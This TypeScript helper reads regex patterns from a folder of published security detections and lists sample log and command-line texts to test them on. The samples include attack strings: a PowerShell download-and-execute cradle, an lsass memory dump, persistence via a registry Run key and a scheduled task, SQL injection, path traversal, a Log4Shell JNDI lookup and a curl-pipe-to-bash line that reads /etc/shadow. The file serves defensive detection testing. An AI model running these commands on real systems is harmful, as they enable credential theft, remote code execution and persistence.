// Finds the regular expressions in a folder of published detections, and texts to try them on.
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseDocument } from 'yaml';

/** Where the published detections lie on a developer's machine; they are not part of this project. */
export const detectionsFolder = '/work/shared/data/security_content';

/** Tells whether the detections are there. */
export function hasDetections(): boolean {
  return existsSync(detectionsFolder);
}

const argument = /(?:\|\s*rex\b[^"|]*|\|\s*regex\b[^"|]*|\b(?:match|replace)\s*\([^"]*?,\s*)"((?:[^"\\]|\\.)*)"/gs;

/** Lists the distinct patterns in the detections' searches, unescaped once as SPL does. */
export function detectionPatterns(): string[] {
  const patterns = new Set<string>();
  for (const file of readdirSync(detectionsFolder, { recursive: true, encoding: 'utf8' }).toSorted()) {
    if (!file.endsWith('.yml')) continue;
    // Some published files are not quite YAML; what can be read of them will do.
    const content: unknown = parseDocument(readFileSync(join(detectionsFolder, file), 'utf8')).toJS();
    if (typeof content !== 'object' || content === null) continue;
    for (const key of ['search', 'definition']) {
      const search: unknown = Object.entries(content).find(([name]) => name === key)?.[1];
      if (typeof search !== 'string') continue;
      for (const match of search.matchAll(argument)) {
        if (!/mode\s*=\s*sed/.test(match[0])) patterns.add((match[1] ?? '').replace(/\\(["\\])/g, '$1'));
      }
    }
  }
  return [...patterns];
}

/** Names a pattern without showing it. */
export function patternHash(pattern: string): string {
  return createHash('sha256').update(pattern).digest('hex').slice(0, 16);
}

/** Texts of the kinds that detections look at. */
export const subjects: readonly string[] = [
  '',
  'C:\\Windows\\System32\\cmd.exe /c whoami > C:\\Users\\ana\\AppData\\Local\\Temp\\out.txt',
  '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -sta -w 1 -enc SQBFAFgAIAAoAE4AZQB3AC0A',
  'powershell -ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.5:8080/a.ps1\')"',
  'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
  'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\x.exe" /f',
  'schtasks /create /tn "Daily" /tr "\\\\fileserver\\share\\run.bat" /sc onlogon /ru SYSTEM',
  'https://www.example.com/login.php?user=admin&id=1%27+OR+1%3D1--#top',
  'GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1',
  'POST /autodiscover/autodiscover.json?@evil.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3F@evil.example',
  '${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/dG91Y2g=}',
  '192.168.1.20 - ana [10/Oct/2025:13:55:36 +0000] "GET /index.html HTTP/1.0" 200 2326',
  'Oct 10 13:55:36 web01 sshd[4721]: Failed password for invalid user root from 203.0.113.9 port 51514 ssh2',
  'type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="sudo" a1="chmod" a2="4755 /tmp/x" uid=0 auid=1000',
  '{"eventName":"ConsoleLogin","sourceIPAddress":"203.0.113.9","userIdentity":{"arn":"arn:aws:iam::123456789012:user/bo"}}',
  'S-1-5-21-1004336348-1177238915-682003330-512',
  'CN=Ana Lopez,OU=People,DC=corp,DC=example,DC=com',
  'ana.lopez@corp.example.com',
  'EventCode=4688\nNew Process Name:\tC:\\Windows\\System32\\net1.exe\nProcess Command Line:\tnet1 group "Domain Admins" /domain\n',
  'kernel: [12.5] audit: user=bo tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="rootcmd"',
  'a1b2c3d4e5f60718293a4b5c6d7e8f90',
  'DESKTOP-7QK2$',
  '10.1.2.3',
  'fe80::1ff:fe23:4567:890a',
  'svc_backup;admin,guest|none \u00e9\u4e16 \u{1F600}',
  'curl -fsSL http://203.0.113.9/x.sh | bash; cat /etc/shadow && crontab -e',
  'x'.repeat(300),
];
